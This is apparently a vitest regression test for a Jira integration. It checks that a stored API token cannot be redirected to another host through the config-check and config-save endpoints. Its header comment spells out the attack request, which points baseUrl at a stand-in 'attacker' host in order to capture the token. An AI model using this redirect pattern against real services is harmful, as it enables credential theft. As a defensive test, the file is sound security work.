// Issue 13 item 11: the stored Jira token could be sent anywhere. `POST …/jira/accounts/me/config/check
// {"baseUrl":"https://attacker"}` sent `Basic email:storedToken` to that host, and saving a new base URL
// without a token kept the stored token for the new host. Two local fake Jira sites stand for the saved
// site and the attacker; the attacker must never receive the stored token.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { storageModes } from '../../testing/databases'
import { type FakeJira, startFakeJira } from '../../testing/fake-jira'
import { startTestInstance, type TestInstance } from '../../testing/instance'
import { memberInNewAccount } from '../admin/test-kit'

describe.each(storageModes())('stored Jira token on %s storage', (mode) => {
  let t: TestInstance
  let site: FakeJira
  let attacker: FakeJira
  let auth = ''
  const basic = (email: string, token: string) =>
    `Basic ${Buffer.from(`${email}:${token}`).toString('base64')}`
  const call = (path: string, body: unknown) =>
    fetch(`${t.url}/api/v1/integrations/jira/accounts/me${path}`, {
      method: 'POST',
      headers: { authorization: auth, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
  const stolen = () =>
    attacker.requests.filter((r) => r.authorization === basic(site.email, site.apiToken)).length

  beforeAll(async () => {
    site = await startFakeJira()
    attacker = await startFakeJira({ email: 'evil@attacker.test', apiToken: 'attacker-own-token-000000' })
    t = await startTestInstance(mode, { SEXTANT_ALLOW_PRIVATE_INTEGRATIONS: 'true' }, { workers: false })
    const owner = await memberInNewAccount(t.sextant.db, 'owner@jira.test')
    await t.sextant.db.query(
      "UPDATE accounts SET features = array_append(features, 'jira') WHERE uuid = $1",
      [owner.accountUuid],
    )
    auth = owner.auth
    const saved = await call('/config', { baseUrl: site.url, email: site.email, apiToken: site.apiToken })
    expect(saved.status).toBe(200)
  })
  afterAll(async () => {
    await t?.close()
    await site?.close()
    await attacker?.close()
  })

  it('never sends the stored token to another host on a check', async () => {
    for (const body of [{ baseUrl: attacker.url }, { baseUrl: attacker.url, email: site.email }]) {
      const res = await call('/config/check', body)
      const answer = (await res.json()) as { message: string }
      expect(res.status).toBe(400)
      expect(answer.message).toContain('apiToken')
      expect(answer.message).toContain(attacker.url)
    }
    expect(attacker.requests).toEqual([])
    // Its own site, on any path, still gets it; a token given now goes where the caller says.
    expect((await call('/config/check', { baseUrl: `${site.url}/` })).status).toBe(200)
    const own = await call('/config/check', {
      baseUrl: attacker.url,
      email: attacker.email,
      apiToken: attacker.apiToken,
    })
    expect(own.status).toBe(200)
    expect(stolen()).toBe(0)
  })

  it('does not keep the stored token for a new host saved without one', async () => {
    const res = await call('/config', { baseUrl: attacker.url, email: site.email })
    expect(res.status).toBe(400)
    expect(((await res.json()) as { message: string }).message).toMatch(
      /apiToken: the stored one was saved for/,
    )
    const config = await (
      await fetch(`${t.url}/api/v1/integrations/jira/accounts/me/config`, {
        headers: { authorization: auth },
      })
    ).json()
    expect(config).toMatchObject({ baseUrl: site.url, apiTokenSet: true })
    // Every later call still goes to the saved site only.
    const projects = await fetch(`${t.url}/api/v1/integrations/jira/accounts/me/jiraprojects`, {
      headers: { authorization: auth },
    })
    expect(projects.status).toBe(200)
    expect(stolen()).toBe(0)
    // The same site under another path keeps the token; saving with a token for a new site works.
    expect((await call('/config', { baseUrl: `${site.url}/`, email: site.email })).status).toBe(200)
    const moved = await call('/config', {
      baseUrl: attacker.url,
      email: attacker.email,
      apiToken: attacker.apiToken,
    })
    expect(moved.status).toBe(200)
    expect((await call('/config/check', {})).status).toBe(200)
    expect(stolen()).toBe(0)
  })
})
